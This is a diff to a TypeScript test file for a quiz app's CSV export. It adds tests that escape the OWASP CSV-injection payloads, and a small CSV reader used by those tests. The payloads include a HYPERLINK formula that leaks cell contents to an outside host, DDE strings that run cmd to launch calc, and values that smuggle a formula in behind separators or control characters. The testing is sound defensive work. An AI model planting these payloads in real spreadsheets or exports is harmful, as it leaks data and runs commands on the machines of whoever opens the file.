@@ -71,6 +71,72 @@ describe('the other formats', () => {
 		expect(csv).toContain(`"Which line,\nwith a break?",'=5,'+1,'-2,'@x,'@x`);
 	});
 
+	// The payloads of https://owasp.org/www-community/attacks/CSV_Injection: a formula character,
+	// tab or carriage return first, or a separator or quote to start a new cell inside the text.
+	const OWASP = [
+		'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
+		"=cmd|' /C calc'!A0",
+		"@SUM(1+9)*cmd|' /C calc'!A0",
+		"+1+cmd|' /C calc'!A0",
+		"-1+cmd|' /C calc'!A0",
+		'\t=1+1',
+		'\r=1+1',
+		'\n=1+1',
+		';=1+1',
+		',=1+1',
+		'\0=1+1',
+		'Harbour;=1+1',
+		'Harbour,=1+1',
+		'Harbour\t=1+1',
+		'Harbour\r\n=1+1',
+		'Harbour",=1+1',
+		"Harbour';=1+1"
+	];
+
+	it.each([',', ';', '\t'])(
+		'writes CSV where no cell starts a formula, read with %j as the separator',
+		(separator) => {
+			const questions = OWASP.map((payload, n) => ({
+				stem: payload,
+				options: [`${n}`, payload, `b${n}`, `c${n}`],
+				answerIndex: 1
+			}));
+			const cells = readCsv(toCsv(questions), separator).flat();
+			expect(cells.join('')).toContain("cmd|' /C calc'!A0");
+			expect(cells.filter((value) => /^"*[=+\-@\t\r\n\0;,]/.test(value))).toEqual([]);
+		}
+	);
+
+	it('keeps each payload readable, with an apostrophe before each formula', () => {
+		const questions = OWASP.map((stem) => ({
+			stem,
+			options: ['a', 'b', 'c', stem],
+			answerIndex: 3
+		}));
+		const rows = readCsv(toCsv(questions), ',').slice(1);
+		expect(rows.map((row) => row.length)).toEqual(OWASP.map(() => 6));
+		expect(rows.map((row) => row[0])).toEqual(rows.map((row) => row[4]));
+		expect(rows.map((row) => row[0])).toEqual([
+			'\'=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
+			"'=cmd|' /C calc'!A0",
+			"'@SUM(1+9)*cmd|' /C calc'!A0",
+			"'+1+cmd|' /C calc'!A0",
+			"'-1+cmd|' /C calc'!A0",
+			"'\t'=1+1",
+			"'\n'=1+1",
+			"'\n'=1+1",
+			"';'=1+1",
+			"',\'=1+1",
+			"'\0=1+1",
+			"Harbour;'=1+1",
+			"Harbour,'=1+1",
+			"Harbour\t'=1+1",
+			"Harbour\n'=1+1",
+			'Harbour",\'=1+1',
+			"Harbour';'=1+1"
+		]);
+	});
+
 	it('writes JSON with the answer given both ways', () => {
 		const json = JSON.parse(toJson('Harbour', QUESTIONS.slice(0, 1))) as unknown;
 		expect(json).toEqual({
@@ -79,3 +145,36 @@ describe('the other formats', () => {
 		});
 	});
 });
+
+/**
+ * Reads CSV as a spreadsheet would with `separator` as its locale's separator: quoted fields may hold
+ * anything ("" is a quote), an unquoted line break ends the row. What is left is each cell's value.
+ */
+function readCsv(csv: string, separator: string): string[][] {
+	const rows: string[][] = [];
+	let row: string[] = [];
+	let value = '';
+	let quoted = false;
+	for (let i = 0; i < csv.length; i++) {
+		const c = csv[i]!;
+		if (quoted) {
+			if (c === '"' && csv[i + 1] === '"') {
+				value += '"';
+				i++;
+			} else if (c === '"') quoted = false;
+			else value += c;
+		} else if (c === '"' && value === '') quoted = true;
+		else if (c === separator) {
+			row.push(value);
+			value = '';
+		} else if (c === '\r' || c === '\n') {
+			if (c === '\r' && csv[i + 1] === '\n') i++;
+			row.push(value);
+			rows.push(row);
+			row = [];
+			value = '';
+		} else value += c;
+	}
+	if (value || row.length) rows.push([...row, value]);
+	return rows;
+}
